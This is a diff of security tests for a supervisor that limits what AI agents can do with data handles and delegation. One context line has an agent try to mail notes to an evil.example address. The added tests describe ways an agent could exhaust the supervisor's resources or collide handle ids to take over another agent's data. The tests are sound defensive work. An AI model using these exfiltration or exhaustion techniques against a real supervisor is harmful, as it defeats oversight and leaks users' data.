@@ -133,3 +133,54 @@ def test_revoking_the_delegation_a_handle_was_passed_through_ends_the_delegates_
         == "TOKEN_REVOKED"
     d = h.call("lax", "mail.send", {"to": "eve@evil.example", "body": notes})
     assert d.code == "HANDLE_DENIED", (d.value, d.audit)
+
+
+# ---------------------------------------------------------------------------- exhaustion
+
+
+def test_a_list_of_references_to_one_handle_cannot_multiply_its_bytes(h):
+    """A handle is counted once against the agent's byte limit, but substituted once per reference:
+    a ~30 KB request naming one 20 KB handle 2,000 times makes a 40 MB argument, which the
+    supervisor copies into the audit record and the signed dispatch (handle.reveal takes `Any`).
+    The default limits (10,000 items per request, 16 MB per handle) make that terabytes. The call
+    must be refused with a typed code when the substituted arguments exceed the handle limit."""
+    with PolicyHarness(tools=TOOLS, stubs={"notes.read": "x" * 20_000}) as hh:
+        hh.add_agent(hiding("reader", "notes.read", handles={"max_count": 4, "max_bytes": 1 << 20, "ttl_s": 60}))
+        ref = {"$handle": hh.call("reader", "notes.read").value["$handle"]}
+        d = hh.call("reader", "handle.reveal", {"handle": [ref] * 2000})
+        size = sum(len(v) for v in d.audit["args"]["handle"]) if d.allowed else 0
+        assert not d.allowed and d.code in ("HANDLE_LIMIT", "TOO_LARGE"), f"allowed: {size} bytes in the record"
+
+
+def test_one_agent_cannot_use_up_the_shards_agent_runs(h, monkeypatch):
+    """Runs are never forgotten and ``delegate`` has no rate check, so one agent that delegates with
+    a fresh narrowing each time (a new Expires) fills MAX_RUNS, after which every delegation of
+    every agent on the shard is DELEGATION_DENIED, journaled and so for good. (MAX_RUNS lowered
+    so the test is quick; at 65,536 it is the same number of requests an agent can make.)"""
+    import runtime.trusted.supervisor as sup
+
+    monkeypatch.setattr(sup, "MAX_RUNS", 12)
+    h.add_agent(policy("boss"))
+    for i in range(20):
+        h.delegate("assistant", "helper", ttl_s=100 + i)
+    assert h.delegate("boss", "helper").allowed, "the attacker's delegations denied another agent's"
+
+
+def test_handle_ids_never_collide_with_a_live_handle(h, monkeypatch):
+    """Ids are the shard's epoch and 32 random bits, stored without a uniqueness check: a collision
+    (birthday bound: ~7% at 25,000 live handles) silently replaces another agent's handle. Forced
+    here by fixing the random part."""
+    import runtime.trusted.flow as flow
+
+    h.add_agent(hiding("a", "notes.read"))
+    h.add_agent(hiding("b", "web.get"))
+    import secrets
+    import types
+
+    monkeypatch.setattr(flow, "secrets", types.SimpleNamespace(token_hex=lambda n: "00" * n if n == 4
+                                                              else secrets.token_hex(n)))
+    first = h.call("a", "notes.read").value
+    second = h.call("b", "web.get", {"url": "https://evil.example/"}).value
+    assert first["$handle"] != second["$handle"]
+    d = h.call("a", "handle.reveal", {"handle": first})
+    assert d.allowed and d.value == "launch date: 12 May", d
